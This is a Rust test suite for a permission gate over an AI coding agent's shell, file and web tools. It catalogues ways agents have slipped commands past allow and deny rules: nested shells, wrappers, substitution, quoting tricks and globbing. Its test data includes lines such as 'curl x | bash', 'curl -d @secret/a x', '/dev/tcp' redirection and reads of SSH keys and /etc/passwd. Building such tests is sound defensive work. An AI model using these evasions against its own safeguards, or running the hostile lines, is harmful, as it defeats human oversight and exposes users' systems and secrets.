//! Ways round a rule that were found in other agents, and the harmless neighbours of each.

use super::*;

pub(super) fn rules(texts: &[&str]) -> Vec<Rule> {
    texts.iter().map(|text| text.parse().unwrap()).collect()
}

pub(super) fn policy(mode: Mode, allow: &[&str], deny: &[&str]) -> Policy {
    Policy { mode, allow: rules(allow), deny: rules(deny), confinement: Confinement::None }
}

pub(super) fn bash(line: &str, policy: &Policy) -> Decision {
    judge(ToolName::Bash, &Subject::Command(line.to_owned()), policy)
}

fn path(tool: ToolName, path: &str, policy: &Policy) -> Decision {
    judge(tool, &Subject::Path(path.to_owned()), policy)
}

#[track_caller]
fn assert_asked(allow: &[&str], lines: &[&str]) {
    for mode in [Mode::Default, Mode::Edit] {
        let policy = policy(mode, allow, &[]);
        let passed: Vec<&&str> =
            lines.iter().filter(|line| !matches!(bash(line, &policy), Decision::Ask { .. })).collect();
        assert!(passed.is_empty(), "not asked under {allow:?}: {passed:#?}");
    }
}

#[track_caller]
fn assert_allowed(allow: &[&str], lines: &[&str]) {
    let policy = policy(Mode::Default, allow, &[]);
    let stopped: Vec<_> = lines
        .iter()
        .map(|line| (line, bash(line, &policy)))
        .filter(|(_, decision)| *decision != Decision::Allow)
        .collect();
    assert!(stopped.is_empty(), "not allowed under {allow:?}: {stopped:#?}");
}

#[track_caller]
fn assert_denied(deny: &str, lines: &[&str]) {
    for mode in [Mode::Default, Mode::Edit, Mode::Plan, Mode::Bypass] {
        let policy = policy(mode, &["bash"], &[deny]);
        let passed: Vec<&&str> = lines
            .iter()
            .filter(|line| !matches!(bash(line, &policy), Decision::Deny { reason } if reason.contains(deny)))
            .collect();
        assert!(passed.is_empty(), "not denied by {deny} in {mode}: {passed:#?}");
    }
}

#[test]
fn each_command_of_a_line_needs_a_rule_of_its_own() {
    assert_asked(
        &["bash(git log *)"],
        &[
            "git log -1; touch m",
            "git log -1 && touch m",
            "git log -1 || touch m",
            "git log -1 | tee m",
            "git log -1 |& tee m",
            "git log -1 & touch m",
            "git log -1\ntouch m",
            "git log -1\r\ntouch m",
            "git log -1 & touch m &",
            "git log -1 &&",
            "&& git log -1",
            "git log -1 ;; touch m",
            "",
            "# only a comment",
        ],
    );
    assert_asked(&["bash(git add *)"], &["git add a && git commit -m x"]);
    assert_allowed(
        &["bash(git log *)", "bash(wc *)"],
        &[
            "git log -1",
            "git log",
            "git log -1 | wc -l",
            "git log -1;",
            "git log -1 &&\ngit log -2 # both",
            "\n git log\n\n",
        ],
    );
}

#[test]
fn what_the_shell_would_expand_or_redirect_is_asked() {
    assert_asked(
        &["bash(echo *)", "bash(ls *)", "bash(cat *)", "bash(git log *)"],
        &[
            "echo x > ../m",
            "echo x >> .git/config",
            "echo x >| \"$m\"",
            "echo x &> /m",
            ">&$m echo x",
            "ls <(touch m)",
            "echo ok > >(touch m)",
            "cat <(touch m)",
            "cat <<EOF\n$(touch m)\nEOF",
            "cat <<EOF\n`touch m`\nEOF",
            "cat <<< \"$(touch m)\"",
            "echo \"$(touch m)\"",
            "echo `touch m`",
            "echo \"`touch m`\"",
            "git log --grep=\"$(touch m)\"",
            "echo ${x@P}",
            "echo ${x:=y}",
            "echo ${!x}",
            "echo ${x:-$(touch m)}",
            "echo ${x%$(touch m)}",
            "git log $IFS",
            "git$IFS-n",
            "cat ~/.ssh/id_x",
            "cat /etc/passwd",
            "cat ../../x",
            "echo \"a\\\\\"; touch m; echo \"b\"",
            "echo a\\\ntouch m",
            "FOO=1 echo x",
            "if true; then touch m; fi",
            "for x in a; do touch m; done",
            "for PATH in a; do echo x; done",
            "! touch m",
            "(touch m)",
            "{ touch m; }",
            "e[c]ho x",
            "$(echo echo) x",
            "echo 'not closed",
            "echo a\u{a0}b\u{2028}c",
            "case x in x) touch m ;; esac",
            "time touch m",
            "[[ -f x ]] && touch m",
            "[[ a[$(touch m)] -eq 1 ]] && echo x",
            "f() { touch m; }; f",
            "echo $((a[$(touch m)]))",
        ],
    );
    assert_allowed(
        &["bash(echo *)", "bash(cat *)", "bash(git *)"],
        &[
            "echo '> >(touch m) $(x) `y` \\ * ~ && ; | &'",
            "echo \"a && b; c > d\"",
            "echo 'it'\"'\"'s'",
            "cat src/*.rs",
            "echo a=b x:y 50% +1 @me",
            "git show HEAD~1 HEAD^",
            "git diff main..HEAD -- src/lib.rs",
            "echo héllo 世界",
            "cat <<'EOF'\n$(touch m) `x` && ; #\nEOF",
            "cat <<< x",
            "echo {a,b} $IFS \"$x\" ${x:-y}",
            "if true; then echo x; fi",
            "for x in a b; do echo $x; done",
            "! echo x",
            "(echo x) && { echo y; }",
            "case x in x) echo m ;; esac",
            "time echo x",
            "[[ -f x ]] && echo y",
            "f() { echo x; }; f",
            "git log -1 2>&1 >/dev/null | cat",
            "echo \"$(git log -1)\"",
            "RUST_BACKTRACE=1 git log",
        ],
    );
}

#[test]
fn a_wrapper_that_changes_nothing_is_allowed_by_the_rule_for_what_it_wraps() {
    let rules = ["bash(git *)", "bash(git log *)", "bash(grep *)", "bash(find *)"];
    assert_allowed(
        &rules,
        &[
            "env git log",
            "env -i RUST_LOG=x git log",
            "nohup git log",
            "nice -n 5 git log",
            "timeout -k 1 5 git log",
            "command git log",
            "exec git log",
            "builtin git log",
            "bash -c 'git log | grep x'",
            "bash -euo pipefail -c 'git log'",
            "env nice timeout 5 bash -c 'nohup git log'",
            "setsid git log",
            "git ls-files | xargs grep x",
            "git ls-files | xargs -0 -n 1 grep -n x",
            "find . -name '*.rs' -exec grep -n x {} +",
        ],
    );
    assert_asked(
        &rules,
        &[
            "xargs git log",
            "sudo git log",
            "bash -xc 'git log'",
            "bash -lc 'git log'",
            "sh -c '$0 \"$@\"' git log",
            "sh -c 'git log &> m'",
            "bash -c \"$X\"",
            "bash",
            "bash x.sh",
            "echo 'touch m' | bash",
            "eval 'git log'",
            "source x",
            ". ./x",
            "trap 'git log' EXIT",
            "/usr/bin/git log",
            "./git log",
            "env -S 'git log'",
            "env PAGER=x git log",
            "env --unknown git log",
            "timeout --unknown 5 git log",
            "env touch m",
            "timeout 5 touch m",
            "nice nice nice touch m",
            "bash -c 'git log; touch m'",
            "xargs touch",
            "find . -exec touch m ';'",
            "find . -exec git log ';' -delete",
            "find . -exec sh -c 'touch m' ';'",
            "ssh host git log",
            "parallel git log",
            "watch git log",
            "coproc git log",
        ],
    );
    // A rule on the wrapper itself with a `*` would be a rule on everything.
    assert_asked(
        &["bash(env *)", "bash(bash *)", "bash(sh -c *)", "bash(timeout 5 *)", "bash(sudo *)"],
        &["env touch m", "bash -c 'x'", "sh -c 'x'", "timeout 5 x", "sudo x"],
    );
    assert_asked(&["bash(* --version)", "bash(g*)"], &["touch --version", "git log"]);
    assert_allowed(
        &["bash(timeout 60 make test)", "bash(command *)", "bash(sudo apt *)", "bash(eval \"$X\")", "bash(A=* run *)"],
        &["timeout 60 make test", "command -v git", "sudo apt list x", "eval \"$X\"", "A=1 run x"],
    );
}

#[test]
fn a_rule_for_git_covers_its_reading_commands_only() {
    assert_asked(
        &["bash(git *)"],
        &[
            "git push",
            "git commit -m x",
            "git checkout .",
            "git -p status",
            "git --paginate show HEAD",
            "git -c core.pager=x log",
            "git -c alias.x='!sh' x",
            "git -C elsewhere status",
            "git --git-dir=x status",
            "git --exec-path=x log",
            "git --config-env=core.pager=X log",
            "git diff --output=m HEAD",
            "git log --output m",
            "git show --outp=m",
            "git diff --ext-diff",
            "git log --textconv",
            "git diff --no-index /etc/passwd x",
            "git log --grep -- --output=m",
            "git log -n -- --output=m",
            "git grep -Oless x",
            "git grep -nOless x",
            "git grep --open-files-in-pager=x y",
            "git grep --open x",
            "git fetch --upload-pack=x",
            "git ls-remote --upload-pack=x .",
            "git difftool --extcmd=x",
            "git branch -D main",
            "git branch -v -D main",
            "git branch new",
            "git branch -v new",
            "git branch -m a b",
            "git tag v1",
            "git tag -d v1",
            "git remote set-url origin x",
            "git remote -v add a b",
            "git stash",
            "git stash pop",
            "git reflog expire --all",
            "git reflog --all expire",
            "git config user.name x",
            "git config alias.x '!touch m'",
            "git worktree add x",
            "git cat-file --textconv HEAD:x",
            "git show --show-signature",
            "git help log",
            "git unknown-alias",
            "cd sub && git status",
            "git blame --contents m x",
        ],
    );
    assert_allowed(
        &["bash(git *)"],
        &[
            "git status",
            "git status -sb",
            "git status --porcelain=v2",
            "git --no-pager log -p -1",
            "git log --oneline -20",
            "git log -n5 --stat --since=yesterday --author 'A B'",
            "git log --grep='fix; rm' --format='%H %s' -S needle",
            "git log -L1,20:src/lib.rs",
            "git diff HEAD -- --output=m",
            "git diff --stat main...HEAD",
            "git diff --cached -U10",
            "git show HEAD:src/lib.rs",
            "git blame -L 1,5 src/lib.rs",
            "git branch",
            "git branch -avv",
            "git branch --show-current",
            "git branch --list 'decode/x'",
            "git branch --contains HEAD",
            "git tag -l",
            "git remote -v",
            "git remote get-url origin",
            "git rev-parse --show-toplevel",
            "git rev-parse --abbrev-ref HEAD",
            "git ls-files -o --exclude-standard",
            "git grep -n -e foo -- src",
            "git stash list",
            "git reflog",
            "git config --get user.name",
            "git describe --tags --always",
            "git merge-base main HEAD",
            "git cat-file -p HEAD",
            "git shortlog -sne",
        ],
    );
}

#[test]
fn a_rule_that_names_a_subcommand_allows_it_without_its_dangerous_options() {
    assert_allowed(
        &["bash(git commit *)", "bash(git add *)", "bash(git rebase *)", "bash(git push origin *)"],
        &[
            "git commit -am 'say; $(what) & why'",
            "git add -A && git commit -m x",
            "git rebase main",
            "git push origin HEAD",
        ],
    );
    assert_asked(
        &[
            "bash(git fetch *)",
            "bash(git rebase *)",
            "bash(git clone *)",
            "bash(git grep *)",
            "bash(git archive *)",
            "bash(git submodule *)",
            "bash(git difftool *)",
            "bash(git bisect *)",
        ],
        &[
            "git fetch --upload-pack=x .",
            "git fetch --upload-p x .",
            "git rebase -x 'touch m' main",
            "git rebase --exec 'touch m' main",
            "git rebase -ix 'touch m' main",
            "git clone -c core.fsmonitor=x a b",
            "git clone -u x a b",
            "git clone --config=x a b",
            "git grep -Ox y",
            "git archive -o m HEAD",
            "git archive --outpu=m HEAD",
            "git submodule foreach 'touch m'",
            "git difftool -x cmd",
            "git difftool --ext=cmd",
            "git bisect run touch m",
            "git -c x=y fetch",
        ],
    );
}

#[test]
fn harmless_programs_are_asked_where_an_argument_runs_or_writes() {
    let allow = [
        "bash(find *)",
        "bash(rg *)",
        "bash(sort *)",
        "bash(sed *)",
        "bash(awk *)",
        "bash(fd *)",
        "bash(tar *)",
        "bash(uniq *)",
        "bash(printenv *)",
    ];
    assert_asked(
        &allow,
        &[
            "find . -exec touch m +",
            "find . -execdir touch m ';'",
            "find . -ok touch m ';'",
            "find . -delete",
            "find . -fprintf m x",
            "rg --pre touch x",
            "rg --pre=touch x",
            "fd -x touch",
            "fd --exec touch",
            "sort -o m x",
            "sort -uo m x",
            "sort --output=m x",
            "sort --compress-prog=sh x",
            "sed -i s/a/b/ f",
            "sed 'w m' f",
            "sed w.out in.txt",
            "sed e./run.sh in.txt",
            "sed s/a/b/w f",
            "sed s/a/b/e f",
            "sed -n '1e touch m' f",
            "sed 1p f -i",
            "sed -f script f",
            "sed s/a/b/ -- f",
            "awk 'BEGIN{system(\"touch m\")}'",
            "awk '{print > \"m\"}' f",
            "awk '{\"x\" | getline}' f",
            "awk -f prog f",
            "tar -cf a.tar --checkpoint-action=exec=x y",
            "tar -xf a.tar --to-command=x",
            "tar -I x -xf a",
            "uniq in out",
            "printenv PATH",
        ],
    );
    assert_allowed(
        &allow,
        &[
            "find . -name '*.rs' -type f",
            "rg -n needle src",
            "sort -u x",
            "sort --reverse -k2 x",
            "sed -n 1,20p src/lib.rs",
            "sed s/a/b/g f.txt",
            "sed -n 10p Makefile",
            "awk -F: '{print $1}' f",
            "uniq -c f",
            "tar -tf a.tar",
        ],
    );
    // What the person wrote out is what they meant.
    assert_allowed(
        &["bash(find . -name x -delete)", "bash(sed -i s/a/b/ *)"],
        &["find . -name x -delete", "sed -i s/a/b/ f"],
    );
}

#[test]
fn a_denied_command_is_found_wherever_it_hides() {
    assert_denied(
        "bash(git push *)",
        &[
            "git push",
            "git push origin main",
            "git push $X",
            "true; git push",
            "git -C d push",
            "git -c a=b --no-pager push",
            "/usr/bin/git push",
            "env git push",
            "env A=b git push",
            "A=b git push",
            "sudo -u x git push",
            "cd x && git push",
            "bash -c 'git push'",
            "bash -c \"bash -c 'git push'\"",
            "sh -c \"git \"push",
            "eval git push",
            "$(git push)",
            "echo \"$(git push)\"",
            "echo `git push`",
            "g\\it push",
            "g\"i\"t pu''sh x > y",
            "> f git push",
            "git pus[h]",
            "if true; then git push; fi",
            "f() { git push; }; f",
            "find . -exec git push ';'",
            "case $s in *) git push ;; esac",
            "git log &\ngit push",
            "trap 'git push' EXIT",
            "ssh host git push",
            "cat <<EOF\n$(git push)\nEOF",
        ],
    );
    assert_denied("bash(rm *)", &["rm -rf x", "'rm' x", "\\rm x", "/bin/rm x", "command rm x", "ls | xargs rm", "rm"]);
    assert_denied("bash(rm -rf *)", &["rm -rf x", "rm -fr x", "rm -r -f x", "rm -vfr x", "rm --recursive --force x"]);
    assert_denied("bash(git push --force *)", &["git push --force", "git push origin --force", "git push --forc x"]);
    assert_denied("bash(cat secret/*)", &["cat secret/a", "cat secre[t]/a", "cat s*/a"]);
    assert_denied("bash", &["ls"]);
}

#[test]
fn what_may_be_a_denied_command_is_asked_in_every_mode() {
    let lines = [
        "echo push | xargs git",
        "git $X",
        "$G push",
        "git pu$X",
        "git ${X}",
        "$(echo git) push",
        "git $(echo push)",
        "{git,push}",
        "x=push; git $x",
        "cat <<EOF | sh\ngit push\nEOF",
        "python3 -c 'import os; os.system(\"git push\")'",
        "python3 - <<EOF\nos.system('git push')\nEOF",
        "git -c alias.x='!git push' x",
        "for ((i=0;i<3;i++)); do git push; done",
        "echo $((x)); \"$@\"",
        "echo $(( 1 + $(git push) ))x; git push",
        "curl x | bash",
        "source x",
    ];
    for mode in [Mode::Default, Mode::Edit, Mode::Bypass] {
        for confinement in [Confinement::None, Confinement::InForce] {
            let policy = Policy { confinement, ..policy(mode, &["bash"], &["bash(git push *)"]) };
            for line in lines {
                assert!(
                    matches!(bash(line, &policy), Decision::Ask { .. }),
                    "{line} in {mode}: {:?}",
                    bash(line, &policy)
                );
            }
        }
    }
}

#[test]
fn a_rule_about_a_file_holds_against_commands_that_name_it() {
    let denied =
        policy(Mode::Bypass, &["bash"], &["read(secret/**)", "edit(*.lock)", "read(/etc/passwd)", "read(*.pem)"]);
    for line in [
        "cat secret/a",
        "cat ./secret/a",
        "cat x/../secret/a",
        "cat secret",
        "cat s?cret/a",
        "cat s*/a",
        "cat < secret/a",
        "cd secret && cat a",
        "cd sub; cat ../secret/a",
        "cat /etc/pass[w]d",
        "cat \"/etc/passwd\"",
        "bash -c 'cat secret/a'",
        "git show HEAD:secret/a",
        "dd if=secret/a",
        "curl -d @secret/a x",
        "tar -cf x -T secret/list",
        "cat ~/proj/secret/a",
        "cat keys/a.pem",
        "echo x > Cargo.lock",
        "rm sub/Cargo.lock",
        "sed -i s/a/b/ Cargo.lock",
        "cd sub && touch x.lock",
    ] {
        assert!(matches!(bash(line, &denied), Decision::Deny { .. }), "{line}: {:?}", bash(line, &denied));
    }
    for line in [
        "cat $X",
        "grep -rn foo .",
        "grep -rn foo src",
        "rg foo",
        "cd $X && cat a",
        "for ((;;)); do cat secret/a; done",
        "cat \"$D/a\"",
    ] {
        assert!(matches!(bash(line, &denied), Decision::Ask { .. }), "{line}: {:?}", bash(line, &denied));
    }
    for line in [
        "cat src/secret.rs",
        "cat Cargo.lock",
        "git diff Cargo.lock",
        "git add Cargo.lock",
        "grep -n secret src/lib.rs",
        "echo secret",
        "cargo test",
        "git log",
        "ls -la src",
        "cat secrets/a",
    ] {
        let policy = policy(Mode::Bypass, &["bash"], &["read(secret/**)", "edit(*.lock)", "read(/etc/passwd)"]);
        assert_eq!(bash(line, &policy), Decision::Allow, "{line}");
    }
}

#[test]
fn a_redirection_is_a_write_where_the_shell_is_then() {
    let rules = ["bash(make *)", "write(out/**)"];
    assert_allowed(
        &rules,
        &["make > out/a", "cd out && make > a", "make &> out/a", "make > /dev/null 2>&1", "make < in"],
    );
    assert_asked(
        &rules,
        &[
            "make > out/../../a",
            "make > $X",
            "make > \"$(pwd)/a\"",
            "cd $X && make > out/a",
            "make < /etc/passwd",
            "make > /dev/tcp/h/80",
            "{ make; } > /a",
            "for i in 1; do make; done > .git/config",
            "cd .. && make > out/a",
        ],
    );
    let default = policy(Mode::Default, &rules, &[]);
    for line in [
        "make > a",
        "cd out; make > a",
        "make > out/../a",
        "make >> a",
        "make >| a",
        "make &> a",
        "make &>> a",
        "make >& a",
        "> a make",
        "{ make; } > a",
        "for i in 1; do make; done > a",
        "cd out && { make; cd ..; } && make > a",
    ] {
        assert!(matches!(bash(line, &default), Decision::Ask { .. }), "{line}");
    }
    let edit = policy(Mode::Edit, &["bash(make *)"], &["write(b)"]);
    assert_eq!(bash("make > a", &edit), Decision::Allow);
    assert!(matches!(bash("make > b", &edit), Decision::Deny { .. }));
    assert!(matches!(bash("make > .git/config", &edit), Decision::Ask { .. }));
    assert!(matches!(bash("make > ../a", &edit), Decision::Ask { .. }));
}

#[test]
fn claude_codes_way_to_write_rules_is_read() {
    assert_allowed(
        &["Bash(git log:*)", "Bash(npm run test:*)", "Bash(cargo build)"],
        &["git log", "git log -1", "npm run test", "npm run test:unit", "cargo build"],
    );
    assert_asked(&["Bash(git log:*)", "Bash(cargo build)"], &["git logs", "git push", "cargo build --release"]);
}

#[test]
fn a_hostile_line_ends_soon() {
    let policy = policy(Mode::Bypass, &[], &["bash(rm *)", "read(secret/**)"]);
    for line in [
        "(".repeat(60_000),
        "$(".repeat(30_000),
        "\"$(".repeat(10_000),
        "{ ".repeat(20_000),
        format!("{}x{}", "(".repeat(5_000), ")".repeat(5_000)),
        format!("{}x{}", "$(".repeat(5_000), ")".repeat(5_000)),
        format!("{}x", "x && ".repeat(10_000)),
        format!("{}x", "x | ".repeat(10_000)),
        format!("{}x", "! ".repeat(10_000)),
        format!("ssh {}", "ssh ".repeat(5_000)),
        format!("env {}x", "env ".repeat(5_000)),
        format!("cat {}", "*".repeat(10_000)),
        format!("if x; then {}", "if x; then ".repeat(3_000)),
        "<<E ".repeat(5_000),
        "a".repeat(70_000),
    ] {
        let start = std::time::Instant::now();
        bash(&line, &policy);

        assert!(start.elapsed() < std::time::Duration::from_secs(20), "{}", &line[..20]);
    }
}

#[test]
fn a_denied_command_does_not_take_its_neighbours_along() {
    let policy = policy(Mode::Bypass, &[], &["bash(git push *)", "bash(rm -rf *)"]);
    for line in [
        "git status",
        "git log --grep push",
        "git log \"$X\"",
        "echo $HOME",
        "echo 'git push'",
        "git commit -m 'no git push, no rm -rf here'",
        "ls | xargs git log",
        "rm x",
        "rm -r x",
        "gitpush",
        "cargo test 2>&1 | tail -5",
        "for f in a b; do echo $f; done",
        "git stash push",
    ] {
        assert_eq!(bash(line, &policy), Decision::Allow, "{line}");
    }
}

#[test]
fn the_mode_decides_what_no_rule_does() {
    let inside = |tool, mode| path(tool, "src/lib.rs", &policy(mode, &[], &[]));
    let kind = |decision: &Decision| match decision {
        Decision::Allow => "allow",
        Decision::Ask { .. } => "ask",
        Decision::Deny { .. } => "deny",
    };
    for (mode, read, edit, command) in [
        (Mode::Default, "allow", "ask", "ask"),
        (Mode::Plan, "allow", "deny", "deny"),
        (Mode::Edit, "allow", "allow", "ask"),
        (Mode::Bypass, "allow", "allow", "allow"),
    ] {
        assert_eq!(kind(&inside(ToolName::Read, mode)), read, "{mode}");
        assert_eq!(kind(&inside(ToolName::Write, mode)), edit, "{mode}");
        assert_eq!(kind(&bash("ls", &policy(mode, &[], &[]))), command, "{mode}");
        assert_eq!(kind(&judge(ToolName::Skill, &Subject::None, &policy(mode, &[], &[]))), "allow", "{mode}");
    }
}

#[test]
fn plan_mode_changes_nothing_whatever_the_rules_allow() {
    let policy = Policy { confinement: Confinement::InForce, ..policy(Mode::Plan, &["bash", "write", "edit"], &[]) };
    for line in ["python - <<EOF\nopen('a.json','w')\nEOF", "sed -i s/a/b/ a", "git log"] {
        assert!(matches!(bash(line, &policy), Decision::Deny { .. }), "{line}");
    }
    assert!(matches!(path(ToolName::Write, "a.json", &policy), Decision::Deny { .. }));
}

#[test]
fn a_sandboxed_child_edits_and_runs_freely_inside() {
    let policy = |mode| Policy { confinement: Confinement::InForce, ..policy(mode, &[], &["bash(git push *)"]) };
    for mode in [Mode::Default, Mode::Edit] {
        assert_eq!(bash("make > log 2>&1 &", &policy(mode)), Decision::Allow);
        assert_eq!(path(ToolName::Edit, "a/b", &policy(mode)), Decision::Allow);
        assert!(matches!(path(ToolName::Edit, "/etc/hosts", &policy(mode)), Decision::Ask { .. }));
        assert!(matches!(bash("x=push; git $x", &policy(mode)), Decision::Ask { .. }));
        assert!(matches!(bash("git push", &policy(mode)), Decision::Deny { .. }));
    }
}

#[test]
fn outside_the_workspace_is_asked() {
    for mode in [Mode::Default, Mode::Edit] {
        let policy = policy(mode, &["read", "write"], &[]);
        for outside in ["/etc/passwd", "../x", "/home/u/proj-evil/x"] {
            assert!(matches!(path(ToolName::Read, outside, &policy), Decision::Ask { .. }), "{outside}");
            assert!(matches!(path(ToolName::Write, outside, &policy), Decision::Ask { .. }), "{outside}");
        }
    }
    let named = policy(Mode::Default, &["read(/usr/share/doc/**)"], &[]);
    assert_eq!(path(ToolName::Read, "/usr/share/doc/x/y", &named), Decision::Allow);
    assert!(matches!(path(ToolName::Read, "/usr/share/doc/../x", &named), Decision::Ask { .. }));
}

#[test]
fn git_configuration_is_not_edited_freely() {
    let policy = policy(Mode::Edit, &[], &[]);
    for inside in [".git/config", ".git/hooks/pre-commit", "sub/.git", ".GIT/config"] {
        assert!(matches!(path(ToolName::Write, inside, &policy), Decision::Ask { .. }), "{inside}");
    }
    assert_eq!(path(ToolName::Write, ".gitignore", &policy), Decision::Allow);
    let wide = self::policy(Mode::Default, &["write", "write(**)", "edit(.git/info/exclude)"], &[]);
    assert!(matches!(path(ToolName::Write, ".git/config", &wide), Decision::Ask { .. }));
    assert_eq!(path(ToolName::Edit, ".git/info/exclude", &wide), Decision::Allow);
    assert_eq!(path(ToolName::Write, "a/b", &wide), Decision::Allow);
}

#[test]
fn a_denied_path_is_denied_to_every_tool_that_would_reach_it() {
    for mode in [Mode::Default, Mode::Edit, Mode::Plan, Mode::Bypass] {
        let policy = policy(mode, &["read", "grep", "glob"], &["read(secret/**)", "edit(*.lock)"]);
        for tool in [ToolName::Read, ToolName::Grep, ToolName::Glob, ToolName::Lsp] {
            for denied in ["secret/a", "secret/b/c", "secret"] {
                assert!(matches!(path(tool, denied, &policy), Decision::Deny { .. }), "{tool} {denied}");
            }
            assert_eq!(path(tool, "secrets/a", &policy), Decision::Allow);
            assert_eq!(path(tool, "src/secret.rs", &policy), Decision::Allow);
        }
        for tool in [ToolName::Write, ToolName::Edit] {
            assert!(matches!(path(tool, "a/Cargo.lock", &policy), Decision::Deny { .. }));
        }
        assert_eq!(path(ToolName::Read, "a/Cargo.lock", &policy), Decision::Allow);
    }
    let bare = policy(Mode::Bypass, &[], &["write"]);
    assert!(matches!(path(ToolName::Write, "a", &bare), Decision::Deny { .. }));
    assert_eq!(path(ToolName::Edit, "a", &bare), Decision::Allow, "a bare rule is about one tool");
    assert!(denies_path(ToolName::Grep, "x", &rules(&["read([)"])), "a broken deny pattern denies");
    assert!(denies_path(ToolName::Grep, "a/id.pem", &rules(&["read(*.pem)"])));
    assert!(denies_path(ToolName::Grep, "keys/deep/a", &rules(&["read(./keys/)"])));
}

#[test]
fn an_allowed_path_is_read_narrowly() {
    let policy = policy(Mode::Default, &["write(src/*.rs)", "write(docs/)"], &[]);
    for allowed in ["src/a.rs", "docs/a/b.md"] {
        assert_eq!(path(ToolName::Write, allowed, &policy), Decision::Allow, "{allowed}");
    }
    for asked in ["src/a/b.rs", "src-evil/a.rs", "docs", "docs2/a", "src/a.rs/x"] {
        assert!(matches!(path(ToolName::Write, asked, &policy), Decision::Ask { .. }), "{asked}");
    }
}

#[test]
fn absolute_and_home_patterns_are_anchored() {
    let given = rules(&["read(/p/secret/**)", "read(~/.ssh/**)", "write(/p)", "bash(cat ~/x)"]);
    let anchored = anchored(given, Path::new("/p"), Some(Path::new("/home/u")));
    assert_eq!(anchored, rules(&["read(secret/**)", "read(/home/u/.ssh/**)", "write(**)", "bash(cat ~/x)"]));
}

#[test]
fn a_host_must_be_named_in_every_mode() {
    let fetch = |url: &str, policy: &Policy| judge(ToolName::WebFetch, &Subject::Url(url.to_owned()), policy);
    for mode in [Mode::Default, Mode::Edit, Mode::Plan, Mode::Bypass] {
        let policy = policy(
            mode,
            &["web_fetch(docs.rs)", "web_fetch(https://*.example.org/docs/*)"],
            &["web_fetch(*.evil.example)"],
        );
        for named in ["https://docs.rs/serde", "http://DOCS.RS:8080/x", "https://a.example.org/docs/x"] {
            assert_eq!(fetch(named, &policy), Decision::Allow, "{named}");
        }
        for unnamed in [
            "https://docs.rs.other.example/",
            "https://docs.rs@other.example/",
            "https://user@docs.rs/",
            "https://other.example/?docs.rs",
            "https://a.example.org/other",
            "http://a.example.org/docs/x",
            "https:\\\\other.example\\docs.rs",
        ] {
            assert!(matches!(fetch(unnamed, &policy), Decision::Ask { .. }), "{unnamed}");
        }
        for denied in ["https://x.evil.example/", "not an address"] {
            assert!(matches!(fetch(denied, &policy), Decision::Deny { .. }), "{denied}");
        }
    }
}

#[test]
fn no_line_makes_the_gate_panic() {
    let policy = policy(Mode::Default, &["bash(git *)"], &["bash(git push *)"]);
    let line =
        "é='x' \"a$\\{b}\" `c` $(git [pu]sh) <<'E' ${x:-y} && {a,b} | sed s/a/b/w $'\\n' ;; git -C \n\u{fffd}* $";
    let ends: Vec<usize> = line.char_indices().map(|(at, _)| at).chain([line.len()]).collect();
    for (at, from) in ends.iter().enumerate() {
        for to in &ends[at..] {
            let part = &line[*from..*to];
            // Alone it prints its help.
            assert!(part.trim() == "git" || bash(part, &policy) != Decision::Allow, "{part}");
        }
    }
}
